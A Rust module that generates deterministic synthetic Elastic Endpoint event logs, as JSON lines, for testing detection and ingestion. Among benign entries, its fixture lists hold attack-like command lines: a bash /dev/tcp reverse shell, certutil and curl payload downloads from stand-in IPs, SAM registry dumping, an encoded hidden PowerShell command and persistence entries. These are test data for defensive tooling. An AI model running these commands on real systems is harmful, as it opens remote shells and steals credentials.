//! The lines that everything here reads: made events, or those of a file.

use std::io::Read as _;
use std::path::Path;

use fastrand::Rng;
use serde_json::{Map, Value, json};

/// How many events are made where no file is given.
pub const MADE: usize = 5_000;

/// Lines of JSON, one behind the other.
pub struct Events {
    text: String,
    /// Where each line ends, without its line break.
    ends: Vec<(usize, usize)>,
}

impl Events {
    /// Of these lines; blank ones are left out.
    pub fn new(text: String) -> Self {
        let mut start = 0;
        let mut ends = Vec::new();
        for line in text.split_inclusive('\n') {
            let end = start + line.trim_end_matches(['\n', '\r']).len();
            if !line.trim().is_empty() {
                ends.push((start, end));
            }
            start += line.len();
        }
        Self { text, ends }
    }

    /// Made events: the same ones in every run.
    pub fn made(count: usize) -> Self {
        let mut maker = Maker::new(0x00C0_FFEE);
        let mut text = String::new();
        for _ in 0..count {
            text.push_str(&maker.event().to_string());
            text.push('\n');
        }
        Self::new(text)
    }

    /// The lines of a file, at most `limit` of them, taken evenly. Files that end in `.zst` are decompressed.
    ///
    /// # Errors
    ///
    /// Where the file cannot be read, or is no text.
    pub fn load(path: &Path, limit: usize) -> std::io::Result<Self> {
        let mut file = std::fs::File::open(path)?;
        let mut text = String::new();
        if path.extension().is_some_and(|extension| extension == "zst") {
            let mut decoder = zstd::Decoder::new(file)?;
            decoder.window_log_max(31)?;
            decoder.read_to_string(&mut text)?;
        } else {
            file.read_to_string(&mut text)?;
        }
        let whole = Self::new(text);
        let (count, step) = (whole.len(), whole.len().div_ceil(limit.max(1)).max(1));
        Ok(if step == 1 { whole } else { whole.only(|at| at < count && at % step == 0) })
    }

    /// The events at these places alone.
    pub fn only(&self, keep: impl Fn(usize) -> bool) -> Self {
        let mut text = String::new();
        for (_, line) in self.lines().enumerate().filter(|(at, _)| keep(*at)) {
            text.push_str(line);
            text.push('\n');
        }
        Self::new(text)
    }

    /// How many.
    pub fn len(&self) -> usize {
        self.ends.len()
    }

    /// Bytes of all lines, without line breaks.
    pub fn bytes(&self) -> usize {
        self.ends.iter().map(|(start, end)| end - start).sum()
    }

    /// The longest line, in bytes.
    pub fn longest(&self) -> usize {
        self.ends.iter().map(|(start, end)| end - start).max().unwrap_or(0)
    }

    /// The lines, in order.
    pub fn lines(&self) -> impl Iterator<Item = &str> {
        self.ends.iter().map(|&(start, end)| &self.text[start..end])
    }

    /// The lines parsed.
    ///
    /// # Panics
    ///
    /// Where a line is not JSON.
    pub fn documents(&self) -> Vec<Value> {
        self.lines().map(|line| serde_json::from_str(line).expect("events are JSON")).collect()
    }
}

/// Makes events as Elastic Endpoint writes them: of a few hosts, whose processes start, load, write and connect.
struct Maker {
    rng: Rng,
    /// Milliseconds since the Unix epoch.
    now: u64,
    sequence: u64,
    hosts: Vec<Host>,
}

struct Host {
    name: String,
    id: String,
    agent: String,
    ip: String,
    windows: bool,
    user: &'static str,
    processes: Vec<Process>,
}

#[derive(Clone)]
struct Process {
    pid: u32,
    entity_id: String,
    executable: String,
    command_line: String,
}

impl Process {
    fn name(&self) -> &str {
        self.executable.rsplit(['\\', '/']).next().unwrap_or(&self.executable)
    }
}

const WINDOWS_PROGRAMS: &[(&str, &[&str])] = &[
    (
        r"C:\Windows\System32\svchost.exe",
        &["-k netsvcs -p -s Schedule", "-k LocalService -p", "-k DcomLaunch -p -s LSM"],
    ),
    (r"C:\Windows\System32\conhost.exe", &[r"0xffffffff -ForceV1", "0x4"]),
    (
        r"C:\Windows\System32\cmd.exe",
        &[
            r#"/c "C:\ProgramData\Contoso\agent\check.bat" --quiet"#,
            "/d /s /c \"echo %PATH%\"",
            "/c dir \"C:\\Users\\Public\"",
        ],
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        &[
            r#"-NoProfile -File "C:\ops\inventory.ps1""#,
            "-ExecutionPolicy Bypass -Command \"Get-Process | Sort-Object CPU\"",
            "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        ],
    ),
    (
        r"C:\Windows\System32\rundll32.exe",
        &[
            r"C:\Windows\System32\shell32.dll,Control_RunDLL timedate.cpl",
            r"C:\Users\Public\a.dll,#1",
        ],
    ),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", &["-secured -Embedding", "-Embedding"]),
    (
        r"C:\Windows\explorer.exe",
        &["", "/factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding"],
    ),
    (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        &[
            "--type=renderer --lang=de --enable-features=Grüße --field-trial-handle=1712,i,901",
            "--type=utility --utility-sub-type=network.mojom.NetworkService",
        ],
    ),
    (
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        &[r#"/n "C:\Users\zoë\Documents\Übersicht 2024.docx" /o """#, "/Embedding"],
    ),
    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", &["/recycle", "-Embedding"]),
    (
        r"C:\Program Files (x86)\Contoso\Backup\cbackup.exe",
        &[r#"--set nightly --target "\\fs01\backup$\%COMPUTERNAME%""#, "--verify"],
    ),
    (
        r"C:\Users\zoë\AppData\Local\Temp\is-4K2.tmp\setup.tmp",
        &["/SL5=\"$40312,1283,0\" /VERYSILENT"],
    ),
    (
        r"C:\Windows\System32\certutil.exe",
        &[
            "-hashfile C:\\ops\\pack.zip SHA256",
            "-urlcache -split -f http://203.0.113.7/a.bin C:\\ProgramData\\a.bin",
        ],
    ),
    (r"C:\Windows\System32\net.exe", &["use Z: \\\\fs01\\team", "localgroup administrators"]),
    (
        r"C:\Windows\System32\schtasks.exe",
        &["/query /fo CSV /v", r"/create /tn upd /tr C:\Users\Public\u.exe /sc daily"],
    ),
    (
        r"C:\Windows\System32\reg.exe",
        &[r"query HKLM\SOFTWARE\Contoso /v Version", r"save HKLM\SAM C:\Windows\Temp\sam.save"],
    ),
    (
        r"D:\apps\build\node_modules\.bin\node.exe",
        &["./server.js --port 3000 --env=\"prod\\eu\"", "-e \"console.log('ok\\n')\""],
    ),
];

const LINUX_PROGRAMS: &[(&str, &[&str])] = &[
    (
        "/usr/bin/bash",
        &[
            "-c \"cd /srv/app && ./run.sh 2>&1 | tee -a log.txt\"",
            "--login",
            "-c \"exec 3<>/dev/tcp/198.51.100.9/4444\"",
        ],
    ),
    ("/usr/bin/python3.11", &["/opt/vendor/collect.py --once", "-m http.server 8000"]),
    (
        "/usr/bin/curl",
        &[
            "-fsSL https://mirror.example.org/pool/index.json -o /var/cache/index.json",
            "-s http://203.0.113.7/x.sh -o /tmp/.x",
        ],
    ),
    ("/usr/sbin/sshd", &["-D -R", "-i"]),
    ("/usr/bin/dpkg", &["--status-fd 27 --configure --pending", "-l"]),
    ("/usr/bin/grep", &["-rn --include=*.conf listen /etc/nginx", "-c processor /proc/cpuinfo"]),
    ("/usr/sbin/nginx", &["-g \"daemon off;\"", "-t -q"]),
    ("/usr/bin/systemctl", &["is-active --quiet nginx", "restart contoso-agent"]),
    (
        "/usr/bin/java",
        &["-Xmx2g -Dfile.encoding=UTF-8 -jar /srv/app/größe.jar --spring.profiles.active=prod"],
    ),
    ("/bin/rm", &["-rf /var/tmp/build-3f2a", "-f /var/log/app/debug.log"]),
];

const LIBRARIES: &[&str] = &[
    r"C:\Windows\System32\ntdll.dll",
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\cryptsp.dll",
    r"C:\Windows\System32\winhttp.dll",
    r"C:\Windows\System32\amsi.dll",
    r"C:\Program Files\Contoso\Agent\version.dll",
    r"C:\Users\zoë\AppData\Local\Temp\is-4K2.tmp\dbghelp.dll",
    r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll",
];

const WINDOWS_FILES: &[&str] = &[
    r"C:\Users\zoë\AppData\Local\Google\Chrome\User Data\Default\Cache\f_00",
    r"C:\Windows\Temp\MpCmdRun.log",
    r"C:\ProgramData\Contoso\agent\state.json",
    r"C:\Users\zoë\Documents\Übersicht 2024.docx",
    r"C:\Users\zoë\Downloads\invoice.pdf.exe",
    r"C:\Windows\System32\Tasks\Contoso Update",
    r"C:\Users\zoë\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\note.lnk",
    r"C:\Windows\Prefetch\SVCHOST.EXE-6A2B.pf",
];

const LINUX_FILES: &[&str] = &[
    "/var/log/journal/7f/system.journal",
    "/srv/app/data/größe.db-wal",
    "/tmp/.cache/x1",
    "/etc/cron.d/contoso",
    "/home/ana/.bash_history",
    "/var/lib/dpkg/status-new",
];

const KEYS: &[(&str, &str)] = &[
    (r"HKLM\SYSTEM\ControlSet001\Services\bam\State\UserSettings\S-1-5-21-1004\chrome.exe", "0"),
    (
        r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Contoso",
        r#""C:\Program Files\Contoso\tray.exe" /min"#,
    ),
    (
        r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\0",
        "Übersicht",
    ),
    (
        r"HKLM\SYSTEM\ControlSet001\Services\CBackup\ImagePath",
        r"C:\Program Files (x86)\Contoso\Backup\cbackup.exe",
    ),
    (
        r"HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\upd",
        r"C:\Users\Public\u.exe",
    ),
    (r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\D:\apps", "0"),
    (r"HKLM\SOFTWARE\Policies\Microsoft\Windows\DeliveryOptimization\DODownloadMode", "1"),
];

impl Maker {
    fn new(seed: u64) -> Self {
        let mut maker = Self {
            rng: Rng::with_seed(seed),
            now: 1_704_067_200_000,
            sequence: 0,
            hosts: Vec::new(),
        };
        for at in 0..24 {
            let host = maker.host(at);
            maker.hosts.push(host);
        }
        maker
    }

    fn host(&mut self, at: usize) -> Host {
        let windows = at % 4 != 3;
        let user = ["zoë", "jörg", "ana", "svc_build", "administrator"][at % 5];
        let mut host = Host {
            name: format!("{}-{at:03}", if windows { "WS" } else { "srv" }),
            id: self.uuid(),
            agent: self.uuid(),
            ip: format!("10.20.{}.{}", at / 8, 10 + at),
            windows,
            user,
            processes: Vec::new(),
        };
        for _ in 0..8 {
            let process = self.process(&host);
            host.processes.push(process);
        }
        host
    }

    fn hex(&mut self, digits: usize) -> String {
        (0..digits).map(|_| self.rng.digit(16)).collect()
    }

    fn uuid(&mut self) -> String {
        [8, 4, 4, 4, 12].map(|digits| self.hex(digits)).join("-")
    }

    /// One of a list, in which the first ones are the common ones.
    fn pick<T: Copy>(&mut self, list: &[T]) -> T {
        self.least_of(2, list)
    }

    /// One of a list whose last ones are what rules look for, which hardly ever happens.
    fn usual<T: Copy>(&mut self, list: &[T]) -> T {
        self.least_of(5, list)
    }

    fn least_of<T: Copy>(&mut self, draws: usize, list: &[T]) -> T {
        let at = (0..draws).map(|_| self.rng.usize(..list.len())).min();
        list[at.unwrap_or_default()]
    }

    fn process(&mut self, host: &Host) -> Process {
        let (executable, lines) =
            self.pick(if host.windows { WINDOWS_PROGRAMS } else { LINUX_PROGRAMS });
        let arguments = self.usual(lines);
        let command_line = match executable.contains(' ') {
            true => format!("\"{executable}\" {arguments}"),
            false => format!("{executable} {arguments}"),
        };
        Process {
            pid: self.rng.u32(4..60_000),
            entity_id: format!("{}=={}", self.hex(40), self.rng.u16(..)),
            executable: executable.to_owned(),
            command_line: command_line.trim_end().to_owned(),
        }
    }

    fn event(&mut self) -> Value {
        self.now += self.rng.u64(1..400);
        self.sequence += 1;
        let at = self.rng.usize(..self.hosts.len());
        let mut host = std::mem::replace(
            &mut self.hosts[at],
            Host {
                name: String::new(),
                id: String::new(),
                agent: String::new(),
                ip: String::new(),
                windows: false,
                user: "",
                processes: Vec::new(),
            },
        );
        let event = match (self.rng.u8(..100), host.windows) {
            (0..=37, _) => self.of_process(&mut host),
            (38..=57, _) => self.of_file(&host),
            (58..=70, _) => self.of_network(&host),
            (71..=84, true) => self.of_registry(&host),
            (85..=95, true) => self.of_library(&host),
            (71..=95, false) => self.of_process(&mut host),
            _ => self.of_logon(&host),
        };
        self.hosts[at] = host;
        event
    }

    /// What all events have: the agent, the host, the user, and how the event came to be.
    fn frame(
        &mut self,
        host: &Host,
        dataset: &str,
        category: &str,
        kind: &[&str],
        action: &str,
    ) -> Map<String, Value> {
        let (seconds, millis) = (self.now / 1_000, self.now % 1_000);
        let (minutes, hours, days) = (seconds / 60, seconds / 3_600, seconds / 86_400);
        let time = format!(
            "2024-01-{:02}T{:02}:{:02}:{:02}.{millis:03}Z",
            1 + (days - 19_723) % 31,
            hours % 24,
            minutes % 60,
            seconds % 60
        );
        let os = if host.windows {
            json!({
                "Ext": { "variant": "Windows 11 Pro" }, "kernel": "23H2 (10.0.22631.2861)", "name": "Windows",
                "family": "windows", "type": "windows", "version": "23H2 (10.0.22631.2861)", "platform": "windows",
                "full": "Windows 11 Pro 23H2 (10.0.22631.2861)",
            })
        } else {
            json!({
                "Ext": { "variant": "Debian" }, "kernel": "6.1.0-17-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.69-1 (2023-12-30)",
                "name": "Linux", "family": "debian", "type": "linux", "version": "12.4", "platform": "debian", "full": "Debian 12.4",
            })
        };
        let domain = if host.windows { host.name.as_str() } else { "" };
        let id = if host.windows { "S-1-5-21-3623811015-3361044348-30300820-1004" } else { "1004" };
        let event_id = format!("N{}++{}", self.hex(12), self.sequence);
        let document = json!({
            "@timestamp": time,
            "agent": { "id": host.agent, "type": "endpoint", "version": "8.11.3", "build": { "original": "version: 8.11.3, compiled: Thu Nov 30 16:00:00 2023, branch: HEAD, commit: 3d2f1c" } },
            "data_stream": { "namespace": "default", "type": "logs", "dataset": dataset },
            "ecs": { "version": "8.10.0" },
            "elastic": { "agent": { "id": host.agent } },
            "event": {
                "agent_id_status": "verified", "sequence": self.sequence, "ingested": time, "created": time, "kind": "event",
                "module": "endpoint", "action": action, "id": event_id, "category": [category], "type": kind, "dataset": dataset,
                "outcome": "unknown",
            },
            "host": {
                "hostname": host.name, "os": os, "ip": [host.ip, "127.0.0.1", "fe80::5054:ff:fe12:3456", "::1"],
                "name": host.name.to_lowercase(), "id": host.id, "mac": ["52-54-00-12-34-56"], "architecture": "x86_64",
            },
            "message": format!("Endpoint {category} event"),
            "user": { "domain": domain, "name": host.user, "id": id },
        });
        match document {
            Value::Object(document) => document,
            _ => Map::new(),
        }
    }

    /// The process that something comes from, as far as such events tell.
    fn source(&mut self, host: &Host) -> Value {
        let process = &host.processes[self.rng.usize(..host.processes.len())];
        json!({
            "Ext": { "ancestry": self.ancestry(host), "code_signature": [signature(host, &process.executable)] },
            "name": process.name(), "pid": process.pid, "thread": { "id": self.rng.u16(..) }, "entity_id": process.entity_id,
            "executable": process.executable, "code_signature": signature(host, &process.executable),
        })
    }

    fn ancestry(&mut self, host: &Host) -> Vec<String> {
        let count = self.rng.usize(2..host.processes.len());
        host.processes.iter().take(count).map(|process| process.entity_id.clone()).collect()
    }

    fn of_process(&mut self, host: &mut Host) -> Value {
        let start = self.rng.u8(..10) < 6;
        let (kind, action) = match (start, host.windows) {
            (true, true) => ("start", "start"),
            (true, false) => ("start", "exec"),
            (false, _) => ("end", "end"),
        };
        let mut document = self.frame(host, "endpoint.events.process", "process", &[kind], action);
        let parent = host.processes[self.rng.usize(..host.processes.len())].clone();
        let process = self.process(host);
        let args: Vec<&str> = process.command_line.split(' ').collect();
        let mut about = json!({
            "Ext": {
                "ancestry": self.ancestry(host),
                "code_signature": [signature(host, &process.executable)],
                "authentication_id": "0x3e7",
                "token": { "integrity_level_name": "high", "elevation": false, "security_attributes": ["TSA://ProcUnique"] },
            },
            "parent": {
                "args": parent.command_line.split(' ').collect::<Vec<_>>(), "args_count": parent.command_line.split(' ').count(),
                "name": parent.name(), "pid": parent.pid, "entity_id": parent.entity_id, "executable": parent.executable,
                "command_line": parent.command_line, "code_signature": signature(host, &parent.executable),
            },
            "args": args, "args_count": args.len(), "name": process.name(), "pid": process.pid,
            "entity_id": process.entity_id, "executable": process.executable, "command_line": process.command_line,
            "working_directory": if host.windows { r"C:\Windows\system32\" } else { "/srv/app" },
            "code_signature": signature(host, &process.executable),
            "hash": { "sha1": self.hex(40), "sha256": self.hex(64), "md5": self.hex(32) },
        });
        if host.windows {
            about["pe"] = json!({ "original_file_name": process.name(), "imphash": self.hex(32) });
        }
        if !start {
            about["exit_code"] = json!(self.rng.i32(-1..3));
        }
        document.insert("process".to_owned(), about);
        let at = self.rng.usize(..host.processes.len());
        host.processes[at] = process;
        Value::Object(document)
    }

    fn of_file(&mut self, host: &Host) -> Value {
        let (kind, action) = self.pick(&[
            ("change", "modification"),
            ("creation", "creation"),
            ("deletion", "deletion"),
            ("change", "rename"),
        ]);
        let mut document = self.frame(host, "endpoint.events.file", "file", &[kind], action);
        let path = self.usual(if host.windows { WINDOWS_FILES } else { LINUX_FILES });
        let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
        let folder = path.get(..path.len() - name.len() - 1).unwrap_or("");
        let mut file = json!({
            "Ext": { "header_bytes": self.hex(32), "entropy": f64::from(self.rng.u16(..8_000)) / 1_000.0, "monotonic_id": self.sequence },
            "path": path, "name": name, "size": self.rng.u32(..9_000_000), "directory": folder,
        });
        if let Some((_, extension)) = name.rsplit_once('.') {
            file["extension"] = json!(extension);
        }
        if action == "rename" {
            file["Ext"]["original"] = json!({ "path": format!("{path}.tmp"), "name": format!("{name}.tmp"), "extension": "tmp" });
        }
        document.insert("file".to_owned(), file);
        document.insert("process".to_owned(), self.source(host));
        Value::Object(document)
    }

    fn of_network(&mut self, host: &Host) -> Value {
        let (action, kind, direction) = self.pick(&[
            ("connection_attempted", "start", "egress"),
            ("disconnect_received", "end", "egress"),
            ("lookup_requested", "protocol", "egress"),
            ("connection_accepted", "start", "ingress"),
        ]);
        let mut document =
            self.frame(host, "endpoint.events.network", "network", &["connection", kind], action);
        if action == "lookup_requested" {
            let name = self.usual(&[
                "wpad.corp.example",
                "update.contoso.example",
                "www.münchen.example",
                "c2.duckdns.org",
            ]);
            document.insert("dns".to_owned(), json!({ "question": { "name": name, "type": "A" }, "resolved_ip": ["203.0.113.7"] }));
        }
        let far = self.usual(&[
            "10.20.0.5",
            "192.168.7.20",
            "203.0.113.7",
            "198.51.100.9",
            "2001:db8::7",
        ]);
        let port = self.usual(&[443, 53, 445, 80, 88, 3389, 4444]);
        document.insert("destination".to_owned(), json!({
            "address": far, "ip": far, "port": port, "bytes": self.rng.u32(..90_000),
            "geo": { "continent_name": "Europe", "country_iso_code": "DE", "location": { "lon": 11.57, "lat": 48.13 } },
        }));
        document.insert("source".to_owned(), json!({ "address": host.ip, "ip": host.ip, "port": self.rng.u16(49_152..), "bytes": self.rng.u32(..9_000) }));
        document.insert("network".to_owned(), json!({ "transport": "tcp", "type": "ipv4", "direction": direction, "bytes": self.rng.u32(..99_000) }));
        document.insert("process".to_owned(), self.source(host));
        Value::Object(document)
    }

    fn of_registry(&mut self, host: &Host) -> Value {
        let mut document =
            self.frame(host, "endpoint.events.registry", "registry", &["change"], "modification");
        let (path, data) = self.usual(KEYS);
        let (hive, key) = path.split_once('\\').unwrap_or((path, ""));
        let (_, value) = path.rsplit_once('\\').unwrap_or((path, ""));
        document.insert("registry".to_owned(), json!({
            "hive": hive, "path": path, "key": key, "value": value, "data": { "type": "REG_SZ", "strings": [data], "bytes": self.hex(80) },
        }));
        document.insert("process".to_owned(), self.source(host));
        Value::Object(document)
    }

    fn of_library(&mut self, host: &Host) -> Value {
        let mut document =
            self.frame(host, "endpoint.events.library", "library", &["start"], "load");
        let path = self.usual(LIBRARIES);
        let name = path.rsplit('\\').next().unwrap_or(path);
        document.insert("dll".to_owned(), json!({
            "Ext": { "load_index": self.rng.u8(..), "relative_file_creation_time": 1_283.5, "code_signature": [signature(host, path)] },
            "path": path, "name": name, "code_signature": signature(host, path), "pe": { "original_file_name": name, "imphash": self.hex(32) },
            "hash": { "sha1": self.hex(40), "sha256": self.hex(64), "md5": self.hex(32) },
        }));
        document.insert("process".to_owned(), self.source(host));
        Value::Object(document)
    }

    fn of_logon(&mut self, host: &Host) -> Value {
        let (action, outcome) = self.usual(&[
            ("logged-in", "success"),
            ("logon-failed", "failure"),
            ("ssh_login", "success"),
        ]);
        let mut document =
            self.frame(host, "endpoint.events.security", "authentication", &["start"], action);
        document["event"]["outcome"] = json!(outcome);
        document["event"]["category"] = json!(["authentication", "session"]);
        let from = self.usual(&["10.20.0.5", "127.0.0.1", "203.0.113.7"]);
        document.insert(
            "source".to_owned(),
            json!({ "ip": from, "address": from, "port": self.rng.u16(49_152..) }),
        );
        document.insert("process".to_owned(), self.source(host));
        Value::Object(document)
    }
}

/// How a program is signed: those of the system and in the folders of installed ones are.
fn signature(host: &Host, path: &str) -> Value {
    if !host.windows || path.contains("AppData") || path.starts_with('D') {
        return json!({ "exists": false });
    }
    let subject = if path.starts_with(r"C:\Windows") { "Microsoft Windows" } else { "Contoso Ltd" };
    json!({ "trusted": true, "subject_name": subject, "exists": true, "status": "trusted" })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn events_are_the_same_in_every_run_and_of_the_size_of_real_ones() {
        let events = Events::made(2_000);
        assert_eq!(events.text, Events::made(2_000).text);
        let mean = events.bytes() / events.len();
        assert!((2_000..2_700).contains(&mean), "{mean} bytes an event");
        let documents = events.documents();
        for category in ["process", "file", "network", "registry", "library", "authentication"] {
            let found = documents.iter().any(|event| event["event"]["category"][0] == category);
            assert!(found, "no {category} event");
        }
    }

    #[test]
    fn lines_are_counted_without_their_breaks() {
        let events = Events::new("{\"a\":1}\r\n\n{}\n[1]".to_owned());
        assert_eq!(events.lines().collect::<Vec<_>>(), ["{\"a\":1}", "{}", "[1]"]);
        assert_eq!(events.bytes(), 12);
        assert_eq!(events.only(|at| at != 1).lines().collect::<Vec<_>>(), ["{\"a\":1}", "[1]"]);
    }
}
